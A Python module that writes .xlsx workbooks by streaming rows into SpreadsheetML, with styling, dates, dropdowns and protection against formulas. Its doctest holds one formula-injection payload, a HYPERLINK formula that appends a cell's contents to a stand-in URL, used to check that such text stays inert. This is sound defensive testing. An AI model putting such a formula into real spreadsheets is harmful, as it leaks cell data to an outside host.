"""Every ``.xlsx`` cjgraph writes: sheets of rows streamed straight into SpreadsheetML.

A workbook is a zip of a few fixed XML parts and one part per sheet. The sheets are written
here row by row, as text, into the zip: a board pack of 40,000 actions holds about 1.6 million
cells, and building a cell object per value (as a general spreadsheet library does) took two
thirds of the whole command's time. What a planner sees is the same: the header in bold,
frozen, with filter buttons; column widths from the longest value; dates as real dates;
dropdowns; long text wrapped; custom document properties (Excel keeps them when it saves).

Text always stays text (see :mod:`cjgraph.cells`): every string is written as a text cell, never
a formula, and marked "quote prefix" when it begins like one, so that Excel keeps it text when
the cell is edited; characters XML cannot hold are dropped. Strings are stored inline, as the
write-only mode of openpyxl stores them, so the workbook reads back as before.

>>> import tempfile, pathlib
>>> from openpyxl import load_workbook
>>> path = pathlib.Path(tempfile.mkdtemp()) / "t.xlsx"
>>> write_xlsx(path, {"actions": [["ref", "text"], ["A1", '=0+HYPERLINK("http://x?"&B2)'], ["n", 3]]})
>>> ws = load_workbook(path)["actions"]
>>> [(c.value, c.data_type) for c in ws[2]]
[('A1', 's'), ('=0+HYPERLINK("http://x?"&B2)', 's')]
>>> ws["B2"].quotePrefix, ws["B3"].value, ws["A1"].font.b, ws.freeze_panes, ws.auto_filter.ref
(True, 3, True, 'A2', 'A1:B3')
>>> write_xlsx(path, {"a": [["due", "status"], ["2019-03-31", "on-track"], ["2019-02-30", None]]},
...            dates={"a": {"due"}}, choices={"a": {"status": ["on-track", "complete"]}})
>>> ws = load_workbook(path)["a"]
>>> ws["A2"].value.date(), ws["A3"].value, ws.data_validations.dataValidation[0].formula1
(datetime.date(2019, 3, 31), '2019-02-30', '"on-track,complete"')
"""

from __future__ import annotations

import math
import re
import zipfile
from collections.abc import Iterator, Sequence
from datetime import UTC, date, datetime
from itertools import zip_longest
from pathlib import Path
from typing import Any

from cjgraph.cells import FORMULA_START, has_control, xml_safe

__all__ = ["write_xlsx"]

_MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_DOC = "http://schemas.openxmlformats.org/officeDocument/2006"
_REL = f"{_DOC}/relationships"
_PACKAGE_REL = "http://schemas.openxmlformats.org/package/2006/relationships"
_TYPE = "application/vnd.openxmlformats-officedocument"
_ISO_DATE = re.compile(r"\d{4}-\d{2}-\d{2}")
# text that is written as it is: no space at either end, no character to escape or drop, and
# not beginning like a formula
_PLAIN_TEXT = re.compile(r"(?![=+\-@\s])[^&<>\x00-\x08\x0b-\x1f\ud800-\udfff\ufffe\uffff]*(?<!\s)\Z")
_SPECIAL = re.compile(r"[&<>\r\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]")  # escaped or dropped
_EPOCH = date(1899, 12, 30)  # Excel's day 0 (for dates from 1 March 1900: its 1900 leap-year error)
_ROWS_PER_WRITE = 2000

# cell looks, by their index in styles.xml's cellXfs
_PLAIN, _BOLD, _BOLD_QUOTED, _QUOTED, _WRAP, _WRAP_QUOTED, _DATE = range(7)
_QUOTED_LOOK = {_PLAIN: _QUOTED, _BOLD: _BOLD_QUOTED, _WRAP: _WRAP_QUOTED}
_FONT = '<sz val="11"/><color theme="1"/><name val="Calibri"/><family val="2"/><scheme val="minor"/>'
_WRAPPED = '<alignment vertical="top" wrapText="1"/>'
_LOOKS = [  # (number format, font, quote prefix, alignment) of each look, in that order
    (0, 0, 0, ""),
    (0, 1, 0, ""),
    (0, 1, 1, ""),
    (0, 0, 1, ""),
    (0, 0, 0, _WRAPPED),
    (0, 0, 1, _WRAPPED),
    (164, 0, 0, ""),
]
_XFS = "".join(
    f'<xf numFmtId="{fmt}" fontId="{font}" fillId="0" borderId="0" xfId="0" applyNumberFormat="{int(fmt > 0)}" '
    f'applyFont="{font}" quotePrefix="{quote}" applyAlignment="{int(bool(align))}">{align}</xf>'
    for fmt, font, quote, align in _LOOKS
)
_STYLES = (
    f'<styleSheet xmlns="{_MAIN}"><numFmts count="1"><numFmt numFmtId="164" formatCode="yyyy-mm-dd"/></numFmts>'
    f'<fonts count="2"><font>{_FONT}</font><font><b val="1"/>{_FONT}</font></fonts>'
    '<fills count="2"><fill><patternFill/></fill><fill><patternFill patternType="gray125"/></fill></fills>'
    '<borders count="1"><border><left/><right/><top/><bottom/><diagonal/></border></borders>'
    '<cellStyleXfs count="1"><xf numFmtId="0" fontId="0" fillId="0" borderId="0"/></cellStyleXfs>'
    f'<cellXfs count="{len(_LOOKS)}">{_XFS}</cellXfs>'
    '<cellStyles count="1"><cellStyle name="Normal" xfId="0" builtinId="0"/></cellStyles><dxfs count="0"/>'
    '<tableStyles count="0" defaultTableStyle="TableStyleMedium9" defaultPivotStyle="PivotStyleLight16"/></styleSheet>'
)


def write_xlsx(
    path: Path,
    sheets: dict[str, list[list[Any]]],
    *,
    properties: dict[str, str] | None = None,
    dates: dict[str, set[str]] | None = None,
    choices: dict[str, dict[str, Sequence[str]]] | None = None,
    wrap: dict[str, set[str]] | None = None,
) -> None:
    """Write sheets of rows (header first, in bold, frozen, with filter buttons and widths) to
    ``path``; text stays text. ``properties`` become custom document properties. Per sheet, by
    header: ``dates`` columns hold ISO dates written as real dates (Excel sorts and filters them
    as dates; a cell that is not a date, or one before 1900, stays text), ``choices`` columns get
    a dropdown of their values (blank allowed), ``wrap`` columns wrap their text."""
    names = _sheet_names(list(sheets))
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as zf:
        for n, (name, rows) in enumerate(sheets.items(), start=1):
            layout = _Layout(rows, (dates or {}).get(name, set()), (wrap or {}).get(name, set()))
            lists = _validations(layout.head, rows, (choices or {}).get(name, {}))
            with zf.open(f"xl/worksheets/sheet{n}.xml", "w", force_zip64=True) as fh:
                for chunk in _sheet(rows, layout, lists):
                    fh.write(chunk.encode("utf-8"))
        for part, text in _package(names, [len(rows) for rows in sheets.values()], sheets, properties or {}):
            zf.writestr(part, text)


def _sheet_names(wanted: list[str]) -> list[str]:
    """Names Excel accepts for the sheets: at most 31 characters, none of ``[]:*?/\\``, not
    blank, each once (a repeated name gets a number).

    >>> _sheet_names(["a" * 40, "a" * 40, "why?", ""])
    ['aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa', 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaa 2', 'why_', 'Sheet 4']
    """
    names: list[str] = []
    for n, name in enumerate(wanted, start=1):
        name = re.sub(r"[\[\]:*?/\\]", "_", xml_safe(name)).strip("' ") or f"Sheet {n}"
        base, k = name[:31], 1
        while base.lower() in (x.lower() for x in names):
            k += 1
            base = f"{name[: 31 - len(str(k)) - 1]} {k}"
        names.append(base)
    return names


class _Layout:
    """How one sheet's columns look: its header, which columns hold dates or wrap, their widths
    (the longest value's length, capped) and letters."""

    def __init__(self, rows: list[list[Any]], dates: set[str], wrap: set[str]) -> None:
        self.head = [str(h) for h in rows[0]] if rows else []
        self.dates = {i for i, h in enumerate(self.head) if h in dates}
        self.wrap = {i for i, h in enumerate(self.head) if h in wrap}
        longest = [_longest(column) for column in zip_longest(*rows)]
        self.widths = [
            min(max(longest[i] or 10, len(title)) + 2, 60 if i in self.wrap else 80)
            for i, title in enumerate(self.head)
        ]
        self.letters = [_column_letter(i) for i in range(len(longest))]
        self.looks = [_WRAP if i in self.wrap else _PLAIN for i in range(len(longest))]
        self.attrs = [f' s="{look}"' if look else "" for look in self.looks]


def _longest(column: tuple[Any, ...]) -> int:
    """The length of a column's longest value as text."""
    texts = [v for v in column if type(v) is str]
    others = [str(v) for v in column if v is not None and type(v) is not str]
    return max(max(map(len, texts), default=0), max(map(len, others), default=0))


def _sheet(rows: list[list[Any]], layout: _Layout, lists: str) -> Iterator[str]:
    """The parts of one sheet's XML, a few thousand rows at a time."""
    cols = "".join(
        f'<col min="{i + 1}" max="{i + 1}" width="{w}" customWidth="1"/>' for i, w in enumerate(layout.widths)
    )
    frozen = (
        '<sheetViews><sheetView workbookViewId="0"><pane ySplit="1" topLeftCell="A2" activePane="bottomLeft" '
        'state="frozen"/><selection pane="bottomLeft" activeCell="A2" sqref="A2"/></sheetView></sheetViews>'
    )
    size = f"A1:{_column_letter(max(len(layout.letters), 1) - 1)}{max(len(rows), 1)}"
    yield (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<worksheet xmlns="{_MAIN}">'
        f'<dimension ref="{size}"/>'
        + (frozen if rows else "")
        + '<sheetFormatPr defaultRowHeight="15"/>'
        + (f"<cols>{cols}</cols>" if cols else "")
        + "<sheetData>"
    )
    parts: list[str] = []
    for n, row in enumerate(rows, start=1):
        parts.append(_row(n, row, layout))
        if len(parts) == _ROWS_PER_WRITE:
            yield "".join(parts)
            parts = []
    yield "".join(parts) + "</sheetData>"
    if rows:
        yield f'<autoFilter ref="A1:{_column_letter(max(len(rows[0]), 1) - 1)}{len(rows)}"/>'
    yield lists + '<pageMargins left="0.75" right="0.75" top="1" bottom="1" header="0.5" footer="0.5"/></worksheet>'


def _row(n: int, row: list[Any], layout: _Layout) -> str:
    """One row's XML: a cell per value (``None`` and empty text leave the cell empty); the first
    row is the header, in bold."""
    cells = [f'<row r="{n}">']
    letters, dates, looks, attrs = layout.letters, layout.dates, layout.looks, layout.attrs
    for i, v in enumerate(row):
        if v is None or v == "":
            continue
        ref = f"{letters[i]}{n}"
        if n == 1:
            cells.append(_text_cell(ref, str(v), _BOLD))
            continue
        if i in dates and type(v) is str:
            v = _as_date(v)
        if type(v) is str:
            if _PLAIN_TEXT.match(v):  # most cells: nothing to escape, drop, quote or keep
                cells.append(f'<c r="{ref}"{attrs[i]} t="inlineStr"><is><t>{v}</t></is></c>')
            else:
                cells.append(_text_cell(ref, v, looks[i]))
        elif isinstance(v, bool):
            cells.append(f'<c r="{ref}" t="b"><v>{int(v)}</v></c>')
        elif isinstance(v, int) or (isinstance(v, float) and math.isfinite(v)):
            cells.append(f'<c r="{ref}" t="n"><v>{v!r}</v></c>')
        elif isinstance(v, date) and not isinstance(v, datetime):
            cells.append(f'<c r="{ref}" s="{_DATE}" t="n"><v>{_serial(v)}</v></c>')
        else:  # anything else (a non-finite number, a time) as the text it stands for
            cells.append(_text_cell(ref, str(v), _PLAIN))
    cells.append("</row>")
    return "".join(cells)


def _text_cell(ref: str, text: str, look: int) -> str:
    """A text cell of a look (plain, bold or wrapped): never a formula, quote-prefixed when it
    begins like one."""
    special = _SPECIAL.search(text) is not None
    if special and has_control(text):
        text = xml_safe(text)
    if text[:1] in FORMULA_START:
        look = _QUOTED_LOOK[look]
    space = ' xml:space="preserve"' if text[:1].isspace() or text[-1:].isspace() else ""
    style = f' s="{look}"' if look else ""
    return f'<c r="{ref}"{style} t="inlineStr"><is><t{space}>{_escape(text) if special else text}</t></is></c>'


def _escape(text: str) -> str:
    """``text`` as XML character data."""
    text = text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    return text.replace("\r", "&#13;")  # else an XML reader turns it into a newline


def _as_date(value: str) -> Any:
    """An ISO date as a date; any other text (or a date Excel cannot hold) as it is."""
    if not _ISO_DATE.fullmatch(value):
        return value
    try:
        day = date.fromisoformat(value)
    except ValueError:  # "2019-02-30": the planner sees what the plan says
        return value
    return day if day.year >= 1900 else value


def _serial(day: date) -> int:
    """Excel's number for ``day`` (which counts a 29 February 1900 that never was)."""
    return (day - _EPOCH).days - (1 if day < date(1900, 3, 1) else 0)


def _validations(head: list[str], rows: list[list[Any]], choices: dict[str, Sequence[str]]) -> str:
    """The dropdowns of a sheet's ``choices`` columns (a list Excel cannot hold is left out)."""
    found = []
    for column, options in choices.items():
        listed = ",".join(options)
        if column in head and len(listed) <= 250 and "," not in "".join(options) and '"' not in listed:
            letter = _column_letter(head.index(column))
            where = f"{letter}2:{letter}{max(len(rows), 1) + 500}"  # room for rows a planner adds
            found.append(
                f'<dataValidation type="list" allowBlank="1" showInputMessage="0" showErrorMessage="0" '
                f'sqref="{where}"><formula1>{_escape(chr(34) + listed + chr(34))}</formula1></dataValidation>'
            )
    return f'<dataValidations count="{len(found)}">{"".join(found)}</dataValidations>' if found else ""


def _package(
    names: list[str], sizes: list[int], sheets: dict[str, list[list[Any]]], properties: dict[str, str]
) -> Iterator[tuple[str, str]]:
    """The workbook's fixed parts: what it holds, its sheets, styles, theme and properties."""
    from openpyxl.writer.theme import theme_xml

    head = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    sheet_types = "".join(
        f'<Override PartName="/xl/worksheets/sheet{n}.xml" ContentType="{_TYPE}.spreadsheetml.worksheet+xml"/>'
        for n in range(1, len(names) + 1)
    )
    custom = (
        f'<Override PartName="/docProps/custom.xml" ContentType="{_TYPE}.custom-properties+xml"/>' if properties else ""
    )
    yield (
        "[Content_Types].xml",
        (
            f'{head}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            f'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            f'<Default Extension="xml" ContentType="application/xml"/>'
            f'<Override PartName="/xl/workbook.xml" ContentType="{_TYPE}.spreadsheetml.sheet.main+xml"/>'
            f'<Override PartName="/xl/styles.xml" ContentType="{_TYPE}.spreadsheetml.styles+xml"/>'
            f'<Override PartName="/xl/theme/theme1.xml" ContentType="{_TYPE}.theme+xml"/>{sheet_types}'
            '<Override PartName="/docProps/core.xml" '
            'ContentType="application/vnd.openxmlformats-package.core-properties+xml"/>'
            f'<Override PartName="/docProps/app.xml" ContentType="{_TYPE}.extended-properties+xml"/>{custom}</Types>'
        ),
    )
    rels = [
        ("officeDocument", "xl/workbook.xml", _REL),
        ("metadata/core-properties", "docProps/core.xml", _PACKAGE_REL),
        ("extended-properties", "docProps/app.xml", _REL),
    ] + ([("custom-properties", "docProps/custom.xml", _REL)] if properties else [])
    yield "_rels/.rels", _relationships(head, rels)
    yield "docProps/core.xml", _core(head)
    yield (
        "docProps/app.xml",
        (f'{head}<Properties xmlns="{_DOC}/extended-properties"><Application>cjgraph</Application></Properties>'),
    )
    if properties:
        yield "docProps/custom.xml", _custom(head, properties)
    yield "xl/workbook.xml", _workbook(head, names, [len(r[0]) if r else 1 for r in sheets.values()], sizes)
    parts = [("worksheet", f"worksheets/sheet{n}.xml", _REL) for n in range(1, len(names) + 1)]
    yield (
        "xl/_rels/workbook.xml.rels",
        _relationships(head, parts + [("styles", "styles.xml", _REL), ("theme", "theme/theme1.xml", _REL)]),
    )
    yield "xl/styles.xml", head + _STYLES
    yield "xl/theme/theme1.xml", theme_xml


def _relationships(head: str, rels: list[tuple[str, str, str]]) -> str:
    listed = "".join(
        f'<Relationship Id="rId{n}" Type="{base}/{kind}" Target="{target}"/>'
        for n, (kind, target, base) in enumerate(rels, start=1)
    )
    return f'{head}<Relationships xmlns="{_PACKAGE_REL}">{listed}</Relationships>'


def _core(head: str) -> str:
    now = datetime.now(UTC).strftime("%Y-%m-%dT%H:%M:%SZ")
    stamp = f'xsi:type="dcterms:W3CDTF">{now}'
    return (
        f'{head}<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" '
        'xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:dcterms="http://purl.org/dc/terms/" '
        'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"><dc:creator>cjgraph</dc:creator>'
        f"<dcterms:created {stamp}</dcterms:created><dcterms:modified {stamp}</dcterms:modified></cp:coreProperties>"
    )


def _custom(head: str, properties: dict[str, str]) -> str:
    listed = "".join(
        f'<property fmtid="{{D5CDD505-2E9C-101B-9397-08002B2CF9AE}}" pid="{pid}" name="{_attr(name)}">'
        f"<vt:lpwstr>{_escape(xml_safe(value))}</vt:lpwstr></property>"
        for pid, (name, value) in enumerate(properties.items(), start=2)
    )
    return f'{head}<Properties xmlns="{_DOC}/custom-properties" xmlns:vt="{_DOC}/docPropsVTypes">{listed}</Properties>'


def _workbook(head: str, names: list[str], widths: list[int], sizes: list[int]) -> str:
    sheets = "".join(
        f'<sheet name="{_attr(name)}" sheetId="{n}" r:id="rId{n}"/>' for n, name in enumerate(names, start=1)
    )
    filters = "".join(
        f'<definedName name="_xlnm._FilterDatabase" localSheetId="{n}" hidden="1">'
        f"{_escape(_quoted_sheet(name))}!$A$1:${_column_letter(max(w, 1) - 1)}${max(size, 1)}</definedName>"
        for n, (name, w, size) in enumerate(zip(names, widths, sizes, strict=True))
        if size
    )
    return (
        f'{head}<workbook xmlns="{_MAIN}" xmlns:r="{_REL}"><workbookPr/><bookViews><workbookView activeTab="0"/>'
        f"</bookViews><sheets>{sheets}</sheets>"
        + (f"<definedNames>{filters}</definedNames>" if filters else "")
        + '<calcPr calcId="124519" fullCalcOnLoad="1"/></workbook>'
    )


def _quoted_sheet(name: str) -> str:
    return "'" + name.replace("'", "''") + "'"


def _attr(value: str) -> str:
    return _escape(xml_safe(value)).replace('"', "&quot;")


def _column_letter(i: int) -> str:
    """The letters of column ``i`` (from 0): A … Z, AA …"""
    letters = ""
    i += 1
    while i:
        i, r = divmod(i - 1, 26)
        letters = chr(65 + r) + letters
    return letters
